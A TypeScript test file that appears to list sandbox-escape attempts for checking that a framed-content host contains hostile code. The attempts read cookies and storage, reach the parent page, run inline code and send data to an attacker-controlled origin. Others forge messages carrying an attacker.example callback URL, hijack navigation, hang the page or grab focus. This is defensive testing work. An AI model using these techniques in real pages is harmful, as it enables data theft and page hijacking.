/** Something that harmful code may try. What it gives back, it got; a request shows at the target's server. */
export interface Attempt {
  readonly name: string;
  /** @param target origin of a server of the attacker */
  run(target: string): unknown;
}

const event = (of: EventTarget, name: string) =>
  new Promise((resolve, reject) => {
    of.addEventListener(name, () => resolve(name), { once: true });
    of.addEventListener('error', () => reject(new Error('refused')), { once: true });
  });

const add = (tag: string, attributes: Readonly<Record<string, string>>, content = '') => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  element.textContent = content;
  document.body.append(element);
  return element;
};

const link = (rel: string, more: Readonly<Record<string, string>> = {}): Attempt => ({
  name: `link ${rel}`,
  run: (target) => void add('link', { rel, href: `${target}/link-${rel}`, ...more }),
});

/** A script of text, as a worker or a module. */
const scriptOf = (text: string) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));

const importOf = async (address: string) => (await import(/* webpackIgnore: true */ address)).default;

const storage: readonly Attempt[] = [
  { name: 'local storage', run: () => localStorage.getItem('secret') },
  { name: 'session storage', run: () => sessionStorage.getItem('secret') },
  { name: 'cookies', run: () => document.cookie || undefined },
  {
    name: 'indexed database',
    run: () =>
      new Promise((resolve, reject) => {
        const opening = indexedDB.open('hostile');
        opening.onsuccess = () => resolve('a database');
        opening.onerror = () => reject(opening.error);
      }),
  },
  { name: 'cache storage', run: () => caches.open('hostile') },
  { name: 'private file system', run: () => navigator.storage.getDirectory() },
  { name: 'service workers', run: () => navigator.serviceWorker.getRegistrations() },
];

const page: readonly Attempt[] = [
  { name: "the parent's document", run: () => parent.document.body.textContent },
  { name: "the top's document", run: () => top?.document.title },
  { name: 'the address of the page', run: () => top?.location.href },
  { name: 'the place of the frame', run: () => parent.document.querySelector('[data-remote]') },
  { name: "the host's lock", run: () => Reflect.get(parent, Symbol.for('alternator.handover')) },
  { name: 'a popup', run: (target) => window.open(`${target}/popup`) },
  {
    name: 'messages between remotes',
    run: () => {
      const channel = new BroadcastChannel('sample');
      const answer = new Promise((resolve) => {
        channel.onmessage = ({ data }) => resolve(data);
      });
      channel.postMessage('who is there?');
      return answer;
    },
  },
  {
    name: "another window's objects",
    run: () => {
      const frame = add('iframe', {}) as HTMLIFrameElement;
      return Reflect.get(frame.contentWindow ?? {}, 'RTCPeerConnection');
    },
  },
];

const code: readonly Attempt[] = [
  // biome-ignore lint/security/noGlobalEval: this is what is tried
  { name: 'eval', run: () => eval('1 + 1') },
  { name: 'a function of text', run: () => new Function('return 2')() },
  {
    name: 'an inline script',
    run: () => {
      add('script', {}, 'window.inline = true');
      return Reflect.get(window, 'inline');
    },
  },
  {
    name: 'an inline handler',
    run: () => {
      add('button', { onclick: 'window.handled = true' }).click();
      return Reflect.get(window, 'handled');
    },
  },
  { name: 'an imported text', run: () => importOf(scriptOf('export default 1')) },
  { name: 'a worker', run: () => event(new Worker(scriptOf('postMessage(1)')), 'message') },
  {
    name: 'a shared worker',
    run: () => {
      const { port } = new SharedWorker(scriptOf('onconnect = ({ ports: [port] }) => port.postMessage(1)'));
      port.start();
      return event(port, 'message');
    },
  },
  {
    name: 'its own script in a frame of its own',
    run: async () => {
      const answer = new Promise((resolve) =>
        addEventListener('message', ({ data }) => resolve(data?.nested)),
      );
      const text = document.querySelector('script[type=module]')?.textContent;
      const own = text?.replace(/^/, 'parent.postMessage({ nested: typeof RTCPeerConnection }, "*");');
      const policies = Reflect.get(window, 'trustedTypes');
      // The host's own stands already in the page.
      if (!policies?.defaultPolicy) policies?.createPolicy('default', { createHTML: (html: string) => html });
      for (const script of [own ?? 'parent.postMessage({ nested: "inline" }, "*")', text ?? ''])
        add('iframe', { srcdoc: `<script type=module>${script}</script>` });
      return answer;
    },
  },
];

const network: readonly Attempt[] = [
  { name: 'fetch', run: (target) => fetch(`${target}/fetch`, { mode: 'no-cors' }) },
  {
    name: 'request of old',
    run: (target) => {
      const request = new XMLHttpRequest();
      request.open('GET', `${target}/request-of-old`);
      request.send();
      return event(request, 'load');
    },
  },
  { name: 'web socket', run: (target) => event(new WebSocket(`${target}/web-socket`), 'open') },
  { name: 'event source', run: (target) => event(new EventSource(`${target}/event-source`), 'open') },
  { name: 'beacon', run: (target) => void navigator.sendBeacon(`${target}/beacon`, 'x') },
  { name: 'image', run: (target) => void add('img', { src: `${target}/image` }) },
  { name: 'video', run: (target) => void add('video', { src: `${target}/video` }) },
  {
    name: 'picture of a sheet',
    run(target) {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background-image: url(${target}/picture-of-a-sheet) }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    },
  },
  link('stylesheet'),
  link('prefetch'),
  link('preload', { as: 'image' }),
  link('modulepreload'),
  { name: 'script', run: (target) => void add('script', { src: `${target}/script` }) },
  { name: 'import', run: (target) => importOf(`${target}/import`) },
  { name: 'frame', run: (target) => void add('iframe', { src: `${target}/frame` }) },
  { name: 'object', run: (target) => void add('object', { data: `${target}/object` }) },
  {
    name: 'form',
    run(target) {
      add('iframe', { name: 'answer' });
      (
        add('form', { action: `${target}/form`, method: 'post', target: 'answer' }) as HTMLFormElement
      ).submit();
    },
  },
  {
    name: 'ping',
    run: (target) => add('a', { href: '#ping', ping: `${target}/ping` }).click(),
  },
  {
    name: 'peer connection',
    async run(target) {
      const urls = `stun:127.0.0.1:${new URL(target).port}`;
      const peer = new RTCPeerConnection({ iceServers: [{ urls }] });
      peer.createDataChannel('out');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 500));
    },
  },
];

/** What can be tried in the page and in a frame alike. */
export const attempts: readonly Attempt[] = [...storage, ...page, ...code, ...network];

/** What only who is in a frame has: the host, and other frames beside it. */
export const attemptsOnTheHost: readonly Attempt[] = [
  {
    name: 'forged messages',
    async run() {
      const answer = new Promise((resolve) => addEventListener('message', ({ data }) => resolve(data)));
      const forged = [
        { type: 'alternator:start', told: { measurements: [] } },
        { type: 'pixels', id: 1 },
        { alternator: 'answer', url: 'https://attacker.example/callback?code=1' },
      ];
      const others = Array.from({ length: parent.length }, (_, index) => parent[index]);
      for (const other of [parent, top, ...others].filter((one) => one !== window))
        for (const message of forged) other?.postMessage(message, '*', [new MessageChannel().port2]);
      return answer;
    },
  },
];

/** What ends the panel where it is let: pressed one by one. */
export const departures: readonly Attempt[] = [
  {
    name: 'leave',
    run(target) {
      location.href = `${target}/leave`;
    },
  },
  {
    name: 'leave by refresh',
    run: (target) =>
      void add('meta', { 'http-equiv': 'refresh', content: `0;url=${target}/leave-by-refresh` }),
  },
  {
    name: 'never end',
    run: () =>
      void setTimeout(() => {
        for (;;);
      }),
  },
  {
    name: 'take the keyboard',
    run() {
      const field = add('input', {});
      setInterval(() => {
        window.focus();
        field.focus();
      }, 100);
    },
  },
  {
    name: 'take the page away',
    run(target) {
      if (top) top.location.href = `${target}/take-the-page-away`;
    },
  },
];
